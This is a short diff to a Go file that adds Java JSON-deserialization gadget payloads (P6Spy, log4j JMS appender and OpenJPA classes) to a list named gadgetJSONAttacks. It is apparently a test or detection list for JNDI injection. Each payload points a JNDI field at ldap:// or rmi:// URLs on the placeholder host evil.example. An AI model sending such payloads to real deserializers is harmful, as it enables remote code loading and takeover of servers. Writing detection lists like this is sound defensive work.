@@ -73,6 +73,10 @@ var gadgetJSONAttacks = []string{
 	// their class
 	`{"x":{"topic-factory":"ldap://evil.example/x"}}`, `{"x":{"UserTransaction":"ldap://evil.example/x"}}`,
 	`{"x":{"shareableResources":["rmi://evil.example/x"]}}`, `{"x":{"dataSourceJNDI":"ldap://evil.example/x"}}`,
+	// attack 24's: P6Spy, log4j's JMS appenders, OpenJPA
+	`["com.p6spy.engine.spy.P6DataSource",{"realDataSource":"ldap://evil.example:1389/x"}]`, `{"realDataSource":"rmi://evil.example/x"}`,
+	`{"topicBindingName":"ldap://evil.example/x"}`, `{"appender":{"factoryBindingName":"ldap://evil.example/x","destinationBindingName":"x"}}`,
+	`{"connectionFactoryName":"ldap://evil.example/x"}`, `{"connectionFactory2Name":"rmi://evil.example/x"}`,
 }
 
 // javaSerialized is the start of a serialized commons-collections chain
